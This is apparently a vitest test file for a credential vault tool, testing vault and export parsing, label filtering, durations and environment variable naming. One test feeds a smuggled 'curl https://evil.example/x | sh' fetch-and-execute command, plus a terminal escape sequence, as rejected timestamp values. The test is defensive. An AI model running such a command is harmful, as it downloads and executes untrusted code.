import { describe, expect, it } from 'vitest';
import { formatDuration, parseDuration } from '../../shared/core/duration';
import { distinctEnvVars } from '../../shared/core/env-var-names';
import { parseVaultContent, serializeVaultContent } from '../../shared/core/vault-content';
import { buildExport, exportedLabel, MAX_EXPORT_CREDENTIALS, parseExport } from '../../shared/core/vault-export';
import { thrown } from '../helpers/errors';

const SECRET = `hf_${'DoC'.repeat(10)}`;

describe('the decrypted vault document', () => {
  it('round-trips entries, accounts sorted, in the documented shape', () => {
    const text = serializeVaultContent(new Map([['tmdb.api_key', 'b'], ['huggingface.token', SECRET]]));
    expect(text).toBe(`{"version":1,"entries":{"huggingface.token":"${SECRET}","tmdb.api_key":"b"}}`);
    expect([...parseVaultContent(text, 'v')]).toEqual([['huggingface.token', SECRET], ['tmdb.api_key', 'b']]);
  });

  it('refuses anything else with VAULT_CORRUPT, never quoting the text', () => {
    for (const text of [`not json ${SECRET}`, `["${SECRET}"]`, `{"version":2,"entries":{"a":"${SECRET}"}}`, `{"version":1}`, `{"version":1,"entries":{"a":1,"b":"${SECRET}"}}`, `{"entries":{"a":"${SECRET}"}}`]) {
      const err = thrown(() => parseVaultContent(text, '/x/user.profile.vault.age'));
      expect(err.code).toBe('VAULT_CORRUPT');
      expect(err.message).toContain('/x/user.profile.vault.age');
      expect(`${err.message}${err.fix}`).not.toContain(SECRET);
    }
    expect(thrown(() => parseVaultContent('{"version":9,"entries":{}}', 'v')).message).toContain('newer cpw-vault');
  });

  it('keeps a __proto__ account as a plain entry', () => {
    const entries = parseVaultContent('{"version":1,"entries":{"__proto__":"x"}}', 'v');
    expect(entries.get('__proto__')).toBe('x');
    expect(({} as Record<string, unknown>)['x']).toBeUndefined();
  });
});

describe('the export document', () => {
  it('round-trips what export writes', () => {
    const doc = buildExport([{ id: 'huggingface.token', value: SECRET, meta: { hint: '••••CDoC' } }], new Date('2026-03-01T00:00:00Z'));
    expect(parseExport(JSON.stringify(doc))).toEqual(doc);
    expect(doc).toMatchObject({ format: 'cpw-vault-export', version: 1, exported_at: '2026-03-01T00:00:00.000Z' });
  });

  it('keeps values as found (the import plan judges them) but refuses a broken structure with EXPORT_INVALID', () => {
    const odd = parseExport(JSON.stringify({ format: 'cpw-vault-export', version: 1, credentials: [{ id: 'x.y', value: 42 }] }));
    expect(odd.credentials[0]).toEqual({ id: 'x.y', value: 42 });
    const bad = [
      `${SECRET} not json`,
      JSON.stringify({ format: 'something-else', version: 1, credentials: [] }),
      JSON.stringify({ format: 'cpw-vault-export', credentials: [] }),
      JSON.stringify({ format: 'cpw-vault-export', version: 1, credentials: {} }),
      JSON.stringify({ format: 'cpw-vault-export', version: 1, credentials: [{ value: SECRET }] }),
      JSON.stringify({ format: 'cpw-vault-export', version: 1, credentials: [{ id: 'a.b', value: SECRET }, { id: 'a.b', value: 'x' }] }),
      JSON.stringify({ format: 'cpw-vault-export', version: 1, credentials: [{ id: 'a.b', value: SECRET, meta: [] }] }),
      JSON.stringify({ format: 'cpw-vault-export', version: 1, credentials: Array.from({ length: MAX_EXPORT_CREDENTIALS + 1 }, (_, i) => ({ id: `a.b${i}`, value: 'v' })) }),
    ];
    for (const text of bad) {
      const err = thrown(() => parseExport(text));
      expect(err.code).toBe('EXPORT_INVALID');
      expect(`${err.message}${err.fix}`).not.toContain(SECRET);
    }
    expect(thrown(() => parseExport(JSON.stringify({ format: 'cpw-vault-export', version: 3, credentials: [] }))).message).toContain('newer cpw-vault');
  });

  it('takes the export\'s time only when it is a date-time: other text in a file someone sent is never shown as its time', () => {
    const at = (v: unknown) => parseExport(JSON.stringify({ format: 'cpw-vault-export', version: 1, exported_at: v, credentials: [] })).exported_at;
    expect(at('2026-11-21T10:00:00.000Z')).toBe('2026-11-21T10:00:00.000Z');
    expect(at('2026-11-21T10:00:00+02:00')).toBe('2026-11-21T10:00:00+02:00');
    for (const v of ['2026-11-21; then run: curl https://evil.example/x | sh', 'yesterday', '2026-13-45T99:99:99Z', '2026-11-21T10:00:00.000Z\u001b[2J', 42, null]) expect(at(v), JSON.stringify(v)).toBe('');
  });
});

describe('labels coming in with an import', () => {
  it('one `set --label` refuses (blank, invisible, another credential\'s catalog label) is dropped; the credential keeps its name', () => {
    const label = (id: string, l: unknown) => exportedLabel({ id, value: 'v', meta: { label: l } });
    for (const l of ['   ', '\u200b', '\u3164', 'HuggingFace token', 'HuggingFace\u00a0token', 'Hugging\u200bFace token']) expect(label('foo.bar', l), JSON.stringify(l)).toBeUndefined();
    expect(label('huggingface.token', 'HuggingFace token')).toBe('HuggingFace token');
    expect(label('foo.bar', 'Foo (work)')).toBe('Foo (work)');
  });

  it('a label `set --label` takes comes in whole when counted in characters: 41 emoji (82 UTF-16 units) kept, 81 dropped', () => {
    const label = (l: unknown) => exportedLabel({ id: 'foo.bar', value: 'v', meta: { label: l } });
    // Exported from a vault that stored it, then dropped on the way in: the credential came back under its bare id.
    expect(label('🎬'.repeat(41))).toBe('🎬'.repeat(41));
    expect(label('🎬'.repeat(80))).toBe('🎬'.repeat(80));
    expect(label('🎬'.repeat(81))).toBeUndefined();
    expect(label('a'.repeat(81))).toBeUndefined();
  });
});

describe('durations', () => {
  it('parses what --ttl takes and refuses the rest', () => {
    expect(parseDuration('8h')).toBe(8 * 3_600_000);
    expect(parseDuration('1h30m')).toBe(90 * 60_000);
    expect(parseDuration('90s')).toBe(90_000);
    expect(parseDuration('30d')).toBe(30 * 86_400_000);
    for (const bad of ['', '0s', '8', 'h', '8x', '31d', '-1h', '1h 30m', '8H', '1e3s']) expect(thrown(() => parseDuration(bad)).code).toBe('INVALID_ARGUMENT');
    expect(formatDuration(90 * 60_000)).toBe('1h 30m');
    expect(formatDuration(8 * 3_600_000)).toBe('8h');
  });
});

describe('env var names of credentials coming in (import, team pull, migrate)', () => {
  it('a name another credential carries, stored or earlier in the batch, moves to CUSTOM_<ID>, then _2, _3; its own name stays', () => {
    const taken = new Map([['MY_TOKEN', 'mine.token'], ['CUSTOM_A_KEY', 'other.thing']]);
    const { items, moved } = distinctEnvVars(
      [
        { id: 'a.key', envVar: 'MY_TOKEN' },
        { id: 'mine.token', envVar: 'MY_TOKEN' },
        { id: 'b.key', envVar: 'SHARED' },
        { id: 'c.key', envVar: 'SHARED' },
        { id: 'd.key', envVar: 'HF_TOKEN' },
        { id: 'e.key' },
      ],
      taken,
    );
    expect(items.map((i) => i.envVar)).toEqual(['CUSTOM_A_KEY_2', 'MY_TOKEN', 'SHARED', 'CUSTOM_C_KEY', 'CUSTOM_D_KEY', undefined]);
    expect(moved).toEqual([
      { id: 'a.key', wanted: 'MY_TOKEN', owner: 'mine.token', got: 'CUSTOM_A_KEY_2' },
      { id: 'c.key', wanted: 'SHARED', owner: 'b.key', got: 'CUSTOM_C_KEY' },
      { id: 'd.key', wanted: 'HF_TOKEN', owner: 'huggingface.token', got: 'CUSTOM_D_KEY' },
    ]);
  });
});
